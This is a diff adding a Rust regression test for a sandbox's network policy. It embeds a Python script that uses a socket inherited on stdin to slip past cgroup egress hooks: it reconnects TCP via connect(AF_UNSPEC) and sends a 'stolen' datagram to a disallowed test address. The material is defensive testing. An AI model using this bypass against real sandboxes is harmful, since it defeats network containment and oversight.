@@ -14,7 +14,9 @@ use std::{
     process::{Command, Output, Stdio},
 };
 
-use hb_tests::{TestEnv, agent_bin, private_netns, python, random_suffix, stdout};
+use hb_tests::{
+    TcpProbe, TestEnv, UdpProbe, agent_bin, private_netns, python, random_suffix, stdout,
+};
 
 const CONFIG: &str = r#"
 [broker]
@@ -214,3 +216,100 @@ fn a_file_on_stdin_or_stdout_is_not_reopened_with_more_rights() {
     }
 }
 
+
+/// Takes the socket on its stdin and aims it at `HOST`: a UDP one sends a datagram there;
+/// a TCP one is disconnected (`connect` with `AF_UNSPEC`) and connected there. Prints
+/// JSON.
+const PY_SOCKET_STDIN: &str = r#"
+import ctypes, json, os, socket, sys
+host, tport, uport = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
+s = socket.socket(fileno=os.dup(0))
+got = {"stdin": f"{s.family.name}/{s.type.name}"}
+if s.type == socket.SOCK_STREAM:
+    libc = ctypes.CDLL(None, use_errno=True)
+    unspec = (ctypes.c_ubyte * 16)()
+    rc = libc.connect(s.fileno(), unspec, 16)
+    got["disconnect"] = rc == 0 or os.strerror(ctypes.get_errno())
+    try:
+        s.settimeout(3)
+        s.connect((host, tport))
+        got["connect"] = "connected"
+    except OSError as e:
+        got["connect"] = e.strerror or str(e)
+else:
+    try:
+        s.sendto(b"stolen", (host, uport))
+        got["sendto"] = "sent"
+    except OSError as e:
+        got["sendto"] = e.strerror
+try:
+    socket.create_connection((host, tport), timeout=3).close()
+    got["own_socket"] = "connected"
+except OSError as e:
+    got["own_socket"] = e.strerror or str(e)
+print(json.dumps(got))
+"#;
+
+/// **An Internet socket on stdin is a way past the cgroup hooks.** The kernel judges a
+/// socket by the cgroup of the process that made it: one made by the caller (an inetd-style
+/// supervisor, a systemd socket unit with `StandardInput=socket`, `Accept=yes`) belongs
+/// to the caller's cgroup, not the enrolled sandbox's, so neither the connect/sendmsg
+/// hooks nor `cgroup_skb/egress` see what the sandbox does with it. A UDP service socket
+/// on stdin sends anywhere; a TCP connection on stdin is dropped with
+/// `connect(AF_UNSPEC)` and connected anywhere. Here both reach 10.9.0.1, which the
+/// policy does not allow (a socket the sandbox makes itself is refused there: the
+/// control). On the baseline both users sent the datagram and connected.
+#[test]
+fn an_internet_socket_on_stdin_reaches_no_address_the_policy_did_not_allow() {
+    private_netns(&["10.9.0.1"]);
+    let mut env = TestEnv::new_in(Path::new("/var/tmp"), "atk16-sockin", CONFIG);
+    env.start_agent();
+    let tcp_sink = TcpProbe::bind("10.9.0.1:0");
+    let udp_sink = UdpProbe::bind("10.9.0.1:0");
+    let (tport, uport) = (
+        tcp_sink.addr.port().to_string(),
+        udp_sink.addr.port().to_string(),
+    );
+    let service = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
+    let mut reports = Vec::new();
+    for (user, options) in USERS {
+        // A UDP service socket, as inetd hands a `wait` service.
+        let udp = std::net::UdpSocket::bind("127.0.0.1:0").expect("udp");
+        // An accepted TCP connection, as inetd or `Accept=yes` hands a `nowait` service.
+        let _client = std::net::TcpStream::connect(service.local_addr().expect("addr"))
+            .expect("connect");
+        let (accepted, _) = service.accept().expect("accept");
+        let stdins: [(&str, std::os::fd::OwnedFd); 2] =
+            [("udp", udp.into()), ("tcp", accepted.into())];
+        for (kind, fd) in stdins {
+            let out = sandbox_command(
+                &env,
+                options,
+                &[python(), "-c", PY_SOCKET_STDIN, "10.9.0.1", &tport, &uport],
+            )
+            .stdin(Stdio::from(fd))
+            .output()
+            .expect("sandbox run");
+            let text = stdout(&out);
+            println!("figure: {user}, {kind} socket on stdin: {}", said(&out).trim());
+            reports.push(format!("{user} {kind}: {}", said(&out)));
+            assert!(
+                !text.contains("\"connected\""),
+                "{user}: the sandbox connected to 10.9.0.1 through its stdin: {}",
+                said(&out)
+            );
+        }
+    }
+    // What a datagram sent needs to arrive (the sandbox's report is not proof for UDP).
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    println!(
+        "figure: 10.9.0.1 accepted {} connection(s), received {} datagram(s)",
+        tcp_sink.accepted(),
+        udp_sink.received()
+    );
+    assert_eq!(
+        (tcp_sink.accepted(), udp_sink.received()),
+        (0, 0),
+        "10.9.0.1 heard from a sandbox: {reports:#?}"
+    );
+}
